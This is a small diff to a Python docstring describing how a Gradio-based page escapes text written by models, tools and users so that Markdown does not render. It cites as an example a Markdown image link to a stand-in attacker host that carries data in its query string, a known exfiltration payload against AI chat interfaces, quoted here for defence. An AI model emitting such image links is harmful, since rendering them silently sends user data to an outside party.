@@ -1,5 +1,6 @@
-"""What the built-in page shows of text a model, ss-tools or a user wrote (issue 31, hole 4):
-answers, errors, tool titles, inputs and outputs, a card's prompt, role and alternatives.
+"""What the built-in page shows of text a model, ss-tools or a user wrote (README.md, "Safety
+properties"): answers, errors, tool titles, inputs and outputs, a card's prompt, role and
+alternatives.
 
 Gradio renders the page's messages as Markdown (marked, then DOMPurify); text passed through
 here is shown as the characters it is, so `![](https://attacker/?d=…)` loads no image and
